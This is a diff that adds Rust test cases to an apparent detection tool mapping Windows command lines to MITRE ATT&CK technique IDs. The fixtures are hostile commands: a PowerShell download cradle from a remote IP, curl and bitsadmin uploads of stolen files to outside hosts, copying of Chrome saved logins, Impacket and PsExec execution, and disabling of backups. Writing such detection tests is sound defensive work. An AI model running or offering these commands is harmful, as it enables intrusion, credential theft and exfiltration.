@@ -720,3 +720,117 @@ fn discovery_lateral_and_other_commands() {
         ),
     ]);
 }
+
+#[test]
+fn a_pipeline_or_a_stdin_script_is_told_by_the_command_that_acts() {
+    check(&[
+        // The Get only picks the services; stopping them is what the line does.
+        (
+            r#"powershell -c "Get-Service *sql* | Stop-Service -Force""#,
+            &["T1489"],
+            &[],
+        ),
+        (
+            r#"powershell -c "Get-ChildItem C:\Users\Public\*.exe | Remove-Item -Force""#,
+            &["T1070.004"],
+            &[],
+        ),
+        // Export-Csv is no evidence of its own: the Get still tells the story.
+        (
+            r"powershell Get-ADUser -Filter * -Properties * | Export-Csv users.csv",
+            &["T1087.002"],
+            &[],
+        ),
+        // PowerShell told to read its script from standard input runs what echo writes.
+        (
+            r#"C:\Windows\system32\cmd.exe /c "echo IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.2/a') | powershell -nop -""#,
+            &["T1059.001", "T1105"],
+            &[],
+        ),
+        // Impacket smbexec's service command line, not wmiexec's output capture.
+        (
+            r"C:\Windows\system32\cmd.exe /Q /c echo cd  ^> \\127.0.0.1\C$\__output 2^>^&1 > C:\Windows\TEMP\execute.bat & C:\Windows\system32\cmd.exe /Q /c C:\Windows\TEMP\execute.bat & del C:\Windows\TEMP\execute.bat",
+            &["T1569.002"],
+            &[],
+        ),
+        (
+            r"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1700000000.1234 2>&1",
+            &["T1047"],
+            &[],
+        ),
+        (
+            r#"%COMSPEC% /c "C:\Users\Public\stage.bat""#,
+            &["T1059.003"],
+            &[],
+        ),
+        (
+            r"cmd.exe /c timeout /t 3 & del C:\Users\jdoe\AppData\Local\Temp\inst.exe",
+            &["T1070.004"],
+            &[],
+        ),
+    ]);
+}
+
+#[test]
+fn the_switch_that_matters_names_the_technique_an_analyst_would() {
+    check(&[
+        (r"cmdkey /list", &["T1555.004"], &[]),
+        (
+            r#"bitsadmin.exe /SetNotifyCmdLine job1 C:\Windows\System32\cmd.exe "/c C:\Users\Public\a.exe""#,
+            &["T1197"],
+            &[],
+        ),
+        (
+            r"bitsadmin /transfer up /upload http://203.0.113.9/u C:\Users\Public\d.zip",
+            &["T1048"],
+            &[],
+        ),
+        (r"nltest /dsgetdc:corp.local", &["T1018"], &[]),
+        (
+            r"wmic useraccount where name='helpdesk' set PasswordExpires=false",
+            &["T1098"],
+            &[],
+        ),
+        (
+            r"wmic service where name='MSSQLSERVER' call ChangeStartMode Disabled",
+            &["T1489"],
+            &[],
+        ),
+        (r"sc config vss start= disabled", &["T1490"], &[]),
+        (r"sc delete wbengine", &["T1490"], &[]),
+        (
+            r#"curl.exe -F "file=@C:\Users\Public\loot.zip" https://evil.example/upload"#,
+            &["T1048"],
+            &[],
+        ),
+        (r"curl ifconfig.me", &["T1016"], &[]),
+        (
+            r"xcopy \\fs01\legal C:\ProgramData\stage /s /e /h /y",
+            &["T1039"],
+            &[],
+        ),
+        (
+            r#"copy "%LOCALAPPDATA%\Google\Chrome\User Data\Default\Login Data" C:\Users\Public\ld"#,
+            &["T1555.003"],
+            &[],
+        ),
+        (
+            r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\csc.exe /out:C:\Users\Public\a.exe C:\Users\Public\a.cs",
+            &["T1027.004"],
+            &[],
+        ),
+        (
+            r"paexec.exe \\10.0.0.2 -s -c C:\Users\Public\a.exe",
+            &["T1569.002"],
+            &[],
+        ),
+        // PsExec with no remote host: its service makes the program run as SYSTEM here.
+        (r"psexec.exe -accepteula -s -i cmd.exe", &["T1569.002"], &[]),
+        // Exporting a log says log enumeration, not the clearing wevtutil is known for.
+        (
+            r"wevtutil epl Security C:\Users\Public\sec.evtx",
+            &["T1654"],
+            &[],
+        ),
+    ]);
+}
